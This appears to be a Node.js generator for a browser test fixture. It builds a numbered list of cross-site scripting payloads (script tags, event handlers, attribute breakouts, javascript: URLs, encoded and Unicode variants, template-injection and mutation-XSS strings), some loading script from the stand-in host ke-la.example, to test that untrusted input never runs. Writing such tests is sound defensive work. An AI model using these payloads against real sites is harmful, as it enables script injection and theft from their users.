// Makes payloads.json: scripts in every dress in which a stranger may send one.
//
//   node tests/browser/make/payloads.js > tests/browser/payloads.json
//
// Each carries its number (`p007`) to be recognised, and an element `x-chen` that must never become
// one. What it would run sets `window.tonghopRan` and opens a dialog.

const RUN = "window.tonghopRan=1;alert(1)";

const CLOSERS = ["", '">', "'>", "</title>", "</textarea>", "</td></table>", "-->", "]]>", "</script>", "</style>"];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script/x>`,
  `<script src=//ke-la.example/x.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<math><mtext><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script\n>${RUN}</script\n>`,
];

const EVENTS = [
  ["img src=x", "onerror"], ["svg", "onload"], ["body", "onload"], ["iframe src=about:blank", "onload"],
  ["video src=x", "onerror"], ["audio src=x", "onerror"], ["video><source", "onerror"],
  ["details open", "ontoggle"], ["input autofocus", "onfocus"], ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"], ["button autofocus", "onfocus"], ["a href=# tabindex=0 autofocus", "onfocus"],
  ["marquee", "onstart"], ["object data=x", "onerror"], ["embed src=x", "onload"],
  ["link rel=stylesheet href=x", "onerror"], ["style", "onload"], ["script src=x", "onerror"],
  ["div contenteditable autofocus", "onfocus"], ["p", "onpointerover"], ["form", "onformdata"],
  ["svg><animate attributeName=x dur=1s", "onbegin"], ["svg><set attributeName=x", "onbegin"],
  ["input type=image src=x", "onerror"], ["image src=x", "onerror"], ["meter", "onmouseover"],
  ["xss tabindex=1 autofocus", "onfocusin"], ["dialog open", "onclose"], ["table background=x", "onload"],
];

const ATTRIBUTES = [
  `" onmouseover="${RUN}`, `' onmouseover='${RUN}`, `" autofocus onfocus="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`, "` onmouseover=`" + RUN, ` onmouseover=${RUN} `, `x onerror=${RUN}`,
  `" style="position:fixed;inset:0" onpointermove="${RUN}`, `"/onload="${RUN}`, `"\tonload\t=\t"${RUN}`,
  `"\nonload="${RUN}`, `" srcdoc="<script>${RUN}</script>`, `" formaction="javascript:${RUN}`,
  `" accesskey=x onclick="${RUN}`, `\\" onload=\\"${RUN}`,
];

const ADDRESSES = [
  "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "java\nscript:RUN", " javascript:RUN",
  "\u0001javascript:RUN", "javascript://%0aRUN", "&#106;avascript:RUN", "&#x6A;avascript&colon;RUN",
  "data:text/html,<script>RUN</script>", "data:image/svg+xml,<svg onload='RUN'/>", "vbscript:RUN",
  "//ke-la.example/", "/\\ke-la.example/",
].map((address) => address.replace("RUN", RUN));

const CARRIERS = [
  (to) => `<a href="${to}">x</a>`, (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<form action="${to}"><button>x</button></form>`, (to) => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`,
  (to) => `<math href="${to}">x</math>`, (to) => `<base href="${to}">`,
  (to) => `<meta http-equiv="refresh" content="0;url=${to}">`, (to) => `<object data="${to}"></object>`,
  (to) => `<embed src="${to}">`, (to) => `<link rel="stylesheet" href="${to}">`,
  (to) => `<img src="x" srcset="${to}">`, (to) => `<button formaction="${to}">x</button>`,
];

const ENTITIES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`, `&ltimg src=x onerror=${RUN}&gt`, `&amp;lt;script&amp;gt;${RUN}`,
  `%3Cscript%3E${RUN}%3C/script%3E`, `%253Cscript%253E${RUN}`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}`, `&#0000060script&#0000062${RUN}`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `&quot; onload=&quot;${RUN}`, `&NewLine;&Tab;<img src=x onerror=${RUN}>`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`, `{{ shell.token }}`, `{{7*7}}`, `{% include "base.html" %}`,
  `{# ${RUN} #}`, "${" + RUN + "}", "#{" + RUN + "}", `<%= ${RUN} %>`, `[[${RUN}]]`, `{{{${RUN}}}}`,
  `<div ng-app>{{$eval('${RUN}')}}</div>`, `<div v-html="'<img src=x onerror=${RUN}>'"></div>`,
  `<?php ${RUN} ?>`, `<!--#exec cmd="${RUN}"-->`, `"});${RUN};({"`, `';${RUN}//`, `*/${RUN}/*`,
];

const UNICODE = [
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`, `\uFE64script\uFE65${RUN}`, `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<\u200Bscript>${RUN}</script>`, `<script\u00A0>${RUN}</script>`, `<img\u2028src=x\u2028onerror=${RUN}>`,
  `<img\u000Csrc=x\u000Conerror=${RUN}>`, `<img\u000Bsrc=x\u000Bonerror=${RUN}>`, `\u202E<script>${RUN}</script>\u202C`,
  `\uFEFF<script>${RUN}</script>`, `\u2039script\u203A${RUN}`, `\u201C onload=\u201D${RUN}`, `\uFF02 onload=\uFF02${RUN}`,
  `<\u017Fcript>${RUN}</\u017Fcript>`, `<\u0130mg src=x onerror=${RUN}>`, `e\u0323\u0302<svg/onload=${RUN}>\u0301`,
  `\u{1F600}<img src=x onerror=${RUN}>\u{1F469}\u200D\u{1F4BB}`,
];

const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`, `<xmp><img src=x onerror=${RUN}></xmp><plaintext>`,
  `<!--><img src=x onerror=${RUN}>-->`, `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<select><style></select><img src=x onerror=${RUN}></style>`, `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<style>@import "//ke-la.example/x.css";*{color:red}</style>`, `<p style="background:url(javascript:${RUN})">`,
  `<form id=x><input name=token value=1></form>`, `<input type=hidden name=token value=1>`,
];

const numbered = (all, first) => all.map((text, index) => [text, first + index]);
const tag = (number) => `p${String(number).padStart(3, "0")}`;

const scripts = SCRIPTS.map((text, index) => CLOSERS[index % CLOSERS.length] + text);
const events = EVENTS.map(([element, event], index) => `${CLOSERS[index % CLOSERS.length]}<${element} ${event}=${index % 2 ? RUN : `"${RUN}"`}>`);
const carried = [...CARRIERS, ...CARRIERS].map((carrier, index) => carrier(ADDRESSES[index % ADDRESSES.length]));
const texts = [...scripts, ...events, ...ATTRIBUTES, ...carried, ...ENTITIES, ...TEMPLATES, ...UNICODE, ...MUTATIONS];
const inText = numbered(texts, 1).map(([text, number]) => `${tag(number)}<x-chen>${text}`);
// An address only runs where it stands alone.
const alone = numbered(ADDRESSES, texts.length + 1).map(([text, number]) => `${text}/*${tag(number)}*/`);
process.stdout.write(`${JSON.stringify([...inText, ...alone], null, 1)}\n`);
